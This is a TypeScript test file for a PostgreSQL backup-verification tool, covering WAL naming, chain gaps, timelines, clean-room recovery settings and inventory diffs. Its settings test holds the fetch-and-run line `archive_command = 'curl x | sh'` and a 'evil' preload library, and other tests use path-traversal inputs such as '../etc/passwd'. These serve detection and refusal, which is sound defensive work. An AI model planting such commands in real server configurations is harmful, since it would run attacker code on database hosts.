import assert from 'node:assert/strict'
import { test } from 'node:test'

import fc from 'fast-check'

import { encodeBase, parseBase, walRangeOf } from './base-description.ts'
import { cleanRoomSettings, ordinaryLimits, settingsOf } from './clean-settings.ts'
import { compareInventories } from './compare-inventories.ts'
import { parseControlData } from './control-data.ts'
import { type Inventory, parseInventory } from './inventory.ts'
import { momentReader } from './log-moments.ts'
import { formatLsn, parseLsn } from './lsn.ts'
import { readReplay } from './replay-log.ts'
import { readSegmentHeader, segmentProblem } from './segment-header.ts'
import { parseArchivedName, segmentName, segmentOf } from './segment-name.ts'
import { compareTables, tableDigest } from './table-digest.ts'
import { rowRules } from './tenant-rows.ts'
import { parseTimelineHistory } from './timeline-history.ts'
import { type Archive, walChain } from './wal-chain.ts'

const segmentBytes = 16_777_216
const lsn = fc.bigInt({ min: 0n, max: (1n << 64n) - 1n })
const anySegmentBytes = fc.integer({ min: 20, max: 30 }).map((power) => 2 ** power)

test('positions and names of segments survive being written and read', () => {
  fc.assert(
    fc.property(
      lsn,
      fc.integer({ min: 1, max: 2 ** 32 - 1 }),
      anySegmentBytes,
      (position, timeline, bytes) => {
        assert.equal(parseLsn(formatLsn(position)), position)
        const number = segmentOf(position, bytes)
        const name = segmentName(timeline, number, bytes)
        assert.deepEqual(parseArchivedName(name, bytes), { kind: 'segment', timeline, number })
      },
    ),
  )
  // pg_walfile_name('2/A1234567') of a server with 16 MiB segments
  assert.equal(
    segmentName(1, segmentOf(parseLsn('2/A1234567'), segmentBytes), segmentBytes),
    '0000000100000002000000A1',
  )
  for (const wrong of ['', '1', '1/G', '123456789/0', '-1/0'])
    assert.throws(() => parseLsn(wrong), /no position/)
  assert.equal(parseArchivedName('0000000100000000000001FF', segmentBytes), undefined)
  assert.equal(parseArchivedName('../etc/passwd'), undefined)
  assert.deepEqual(parseArchivedName('000000010000000000000003.partial'), { kind: 'partial' })
})

function header(
  fields: { timeline?: number; startsAt?: bigint; system?: bigint; bytes?: number } = {},
): Buffer {
  const head = Buffer.alloc(40)
  head.writeUInt16LE(0xd110, 0)
  head.writeUInt16LE(2, 2)
  head.writeUInt32LE(fields.timeline ?? 1, 4)
  head.writeBigUInt64LE(fields.startsAt ?? 3n * 16_777_216n, 8)
  head.writeBigUInt64LE(fields.system ?? 77n, 24)
  head.writeUInt32LE(fields.bytes ?? segmentBytes, 32)
  head.writeUInt32LE(8192, 36)
  return head
}

test('a segment has to be what its name says', () => {
  const name = '000000010000000000000003'
  const problem = (head: Uint8Array, length = segmentBytes, system = '77') =>
    segmentProblem(name, { head, length }, system)
  assert.equal(problem(header()), undefined)
  assert.match(problem(header(), 100) ?? '', /has 100 bytes/)
  assert.match(problem(header({ startsAt: 0n })) ?? '', /another place/)
  assert.match(problem(header({ timeline: 2 })) ?? '', /later timeline/)
  assert.match(problem(header({ system: 78n })) ?? '', /belongs to the cluster 78/)
  assert.match(problem(Buffer.alloc(40, 0xaa)) ?? '', /no page/)
  fc.assert(fc.property(fc.uint8Array({ maxLength: 64 }), (bytes) => void readSegmentHeader(bytes)))
})

const base = { timeline: 1, start: 2n * 16_777_216n + 40n, end: 2n * 16_777_216n + 256n }
const name = (number: number, timeline = 1): string => segmentName(timeline, BigInt(number), segmentBytes)
function archive(numbers: readonly number[], more: Partial<Archive> = {}): Archive {
  return {
    segments: new Set(numbers.map((number) => name(number))),
    histories: new Map(),
    segmentBytes,
    ...more,
  }
}

test('the log is followed from the base backup, and a gap is named', () => {
  assert.deepEqual(walChain(archive([1, 2, 3, 4]), base).names, [name(2), name(3), name(4)])
  assert.equal(walChain(archive([2, 3]), base).gap, undefined)
  const holed = walChain(archive([2, 3, 5, 6]), base)
  assert.equal(holed.gap, name(4))
  assert.equal(holed.coveredTo, 4n * 16_777_216n)
  assert.throws(() => walChain(archive([2, 3, 5]), base, { target: 5n * 16_777_216n }), {
    code: 'wal-invalid',
    message: new RegExp(name(4)),
  })
  assert.deepEqual(walChain(archive([2, 3, 4]), base, { target: 3n * 16_777_216n + 1n }).names, [
    name(2),
    name(3),
  ])
  assert.throws(() => walChain(archive([2]), base, { target: base.start }), /before the end of this base/)
})

test('a base backup brings its own log, but only up to its end', () => {
  const alone = walChain(archive([]), base)
  assert.deepEqual([alone.names, alone.coveredTo, alone.gap], [[], base.end, undefined])
  assert.equal(walChain(archive([3, 4]), base).gap, name(2), 'the rest of that segment is missing')
})

test('a timeline is reached by its history alone', () => {
  const leftAt = 4n * 16_777_216n + 77n
  const histories = new Map([[2, [{ timeline: 1, leftAt }]]])
  const both = archive([2, 3, 4, 5], {
    histories,
    segments: new Set([name(2), name(3), name(4), name(5), name(4, 2), name(5, 2)]),
  })
  assert.deepEqual(walChain(both, base, { timeline: 2 }).names, [name(2), name(3), name(4, 2), name(5, 2)])
  assert.deepEqual(walChain(both, base).names, [name(2), name(3), name(4), name(5)])
  assert.throws(() => walChain(both, base, { timeline: 3 }), {
    code: 'wal-invalid',
    message: /does not lead/,
  })
  const early = new Map([[2, [{ timeline: 1, leftAt: base.start }]]])
  assert.throws(() => walChain({ ...both, histories: early }, base, { timeline: 2 }), /does not lead/)
})

test('a chain is what is there without a hole, for any archive', () => {
  fc.assert(
    fc.property(fc.uniqueArray(fc.integer({ min: 2, max: 12 })), (numbers) => {
      const { names, gap } = walChain(archive(numbers), base)
      let next = 2
      while (numbers.includes(next)) next += 1
      assert.deepEqual(
        names,
        Array.from({ length: next - 2 }, (_, at) => name(at + 2)),
      )
      assert.equal(gap, numbers.some((number) => number > next) ? name(next) : undefined)
    }),
  )
})

test('files out of a backup are read or refused, never thrown at', () => {
  fc.assert(
    fc.property(fc.oneof(fc.string(), fc.json()), (text) => {
      parseBase(text)
      parseInventory(text)
      parseTimelineHistory(text)
      parseControlData(text)
      walRangeOf(text)
      settingsOf('postgresql.conf', text)
      readReplay(text, { timeline: 1, segmentBytes })
    }),
    { numRuns: 500 },
  )
  assert.deepEqual(parseTimelineHistory('1\t0/5000000\tno recovery target\n\n2\t0/6000000\tx\n'), [
    { timeline: 1, leftAt: 0x5000000n },
    { timeline: 2, leftAt: 0x6000000n },
  ])
  assert.equal(parseTimelineHistory('2\t0/5\tx\n1\t0/6\tx\n'), undefined)
  const description = {
    cluster: 'main',
    system: '7',
    major: 15,
    segmentBytes,
    checksums: true,
    superuser: 'postgres',
    ...base,
  }
  assert.deepEqual(parseBase(encodeBase(description)), description)
  assert.equal(parseBase(encodeBase({ ...description, cluster: '../x' })), undefined)
})

test('settings that run, load or connect are pointed out; none of them reaches the clean room', () => {
  const text = `archive_command = 'curl x | sh' # a remark\nshared_preload_libraries='evil'\nwork_mem 4MB\nprimary_conninfo = 'host=it''s'\n#no = 1\n`
  assert.deepEqual(
    settingsOf('postgresql.auto.conf', text).map(({ name, value, risky }) => [name, value, risky]),
    [
      ['archive_command', 'curl x | sh', true],
      ['shared_preload_libraries', 'evil', true],
      ['work_mem', '4MB', false],
      ['primary_conninfo', "host=it's", true],
    ],
  )
  const ours = cleanRoomSettings({
    limits: ordinaryLimits,
    major: 17,
    recovery: { target: { kind: 'time', until: `2026-11-29T01:02:03.000004Z` }, timeline: 3 },
  })
  assert.match(ours, /^listen_addresses = ''$/m)
  assert.match(ours, /^event_triggers = 'off'$/m)
  assert.match(ours, /^recovery_target_time = '2026-11-29 01:02:03.000004\+00:00'$/m)
  assert.match(ours, /^recovery_target_inclusive = 'off'$/m)
})

const line = (kind: string, name: string, text = '', digest = text) => ({
  kind,
  database: '',
  name,
  text,
  digest,
})
const inventory = (secrets: boolean, ...lines: Inventory['lines'][number][]): Inventory => ({
  version: 1,
  secrets,
  databases: [],
  lines,
})

test('what came, went or changed is listed, the gravest first', () => {
  const clean = inventory(
    true,
    line('role', 'clerk', 'LOGIN'),
    line('trigger', 'old'),
    line('password', 'clerk', 'a'),
  )
  const found = inventory(
    true,
    line('role', 'clerk', 'LOGIN'),
    line('role', 'ghost', 'SUPERUSER LOGIN'),
    line('schema', 'new'),
    line('password', 'clerk', 'b'),
  )
  const { changes, comparesSecrets } = compareInventories(clean, found)
  assert.equal(comparesSecrets, true)
  assert.deepEqual(
    changes.map(({ change, kind, name }) => `${change} ${kind} ${name}`),
    ['changed password clerk', 'added role ghost', 'added schema new', 'removed trigger old'],
  )
  const blind = compareInventories(inventory(false), found)
  assert.ok(!blind.comparesSecrets && blind.changes.every(({ kind }) => kind !== 'password'))
})

test('a damaged record in the log of the replay is found with its segment', () => {
  const log =
    'LOG:  incorrect resource manager data checksum in record at 0/4000A28\nLOG:  redo done at 0/40009F0 system usage\n'
  const found = readReplay(log, { timeline: 1, segmentBytes })
  assert.equal(found.damage?.segment, '000000010000000000000004')
  assert.equal(found.redoneTo, '0/40009F0')
  const end = 'LOG:  invalid record length at 0/5000000: wanted 24, got 0\nLOG:  redo done at 0/4FFFF80\n'
  assert.equal(readReplay(end, { timeline: 1, segmentBytes }).damage, undefined)
})

test('tables are compared by name, count and content', () => {
  const a = tableDigest('t', ['2', '1', '1', '1', '1'])
  assert.deepEqual(compareTables([a], [a]), [])
  assert.equal(compareTables([a], [])[0]?.what, 'missing')
  assert.equal(compareTables([a], [tableDigest('t', ['3', '1', '1', '1', '1'])])[0]?.what, 'rows')
  assert.equal(compareTables([a], [tableDigest('t', ['2', '1', '1', '1', '2'])])[0]?.what, 'content')
  assert.equal(compareTables([], [a])[0]?.what, 'unexpected')
})

test('columns are found by one, two or three names', () => {
  const column = (name: string) => ({ name, quoted: name })
  const tables = [
    { schema: 'public', name: 'a', quoted: 'public.a', columns: [column('id'), column('tenant_id')] },
    { schema: 'x', name: 'a', quoted: 'x.a', columns: [column('id')] },
  ]
  const keys = (...keys: string[]) =>
    rowRules(tables, [], { keys, shared: [] }).keys.map(({ table }) => table)
  assert.deepEqual(keys('id'), [0, 1])
  assert.deepEqual(keys('tenant_id'), [0])
  assert.deepEqual(keys('x.a.id'), [1])
  assert.throws(() => keys('b.id'), { code: 'input-invalid' })
  assert.throws(() => rowRules(tables, [], { keys: [], shared: ['nothing'] }), { code: 'input-invalid' })
})

test('commits that take much away are found in what pg_waldump prints, with their subtransactions', () => {
  const record = (kind: string, transaction: number, lsn: string, what: string): string =>
    `rmgr: ${kind}        len (rec/tot):     54/    54, tx:        ${transaction}, lsn: ${lsn}, prev 0/030034C8, desc: ${what}`
  const remove = (transaction: number): string =>
    record(
      'Heap',
      transaction,
      '0/03003508',
      'DELETE off 1 flags 0x00 KEYS_UPDATED , blkref #0: rel 1663/5/16390 blk 0',
    )
  const read = momentReader({ minRows: 2 })
  const lines = [
    remove(7),
    remove(8),
    record('Transaction', 9, '0/03003600', 'COMMIT 2026-11-29 01:02:55.081309 UTC'),
    record('Transaction', 7, '0/03003700', 'COMMIT 2026-11-29 01:02:56.081309 UTC; subxacts: 8'),
    record(
      'Transaction',
      10,
      '0/03003800',
      'COMMIT 2026-11-29 01:02:57.081309 UTC; rels: base/5/16390 base/5/16391; inval msgs: catcache 1',
    ),
    remove(11),
    record('Transaction', 11, '0/03003900', 'ABORT 2026-11-29 01:02:58.081309 UTC'),
  ]
  assert.deepEqual(
    lines
      .flatMap((text) => read(text) ?? [])
      .map(({ lsn, time, deleted, removedFiles }) => [lsn, time, deleted, removedFiles]),
    [
      ['0/3003700', '2026-11-29 01:02:56.081309 UTC', 2, 0],
      ['0/3003800', '2026-11-29 01:02:57.081309 UTC', 0, 2],
    ],
  )
  fc.assert(fc.property(fc.string(), (text) => void read(`rmgr: Heap tx: 1, lsn: 0/1, desc: ${text}`)))
})
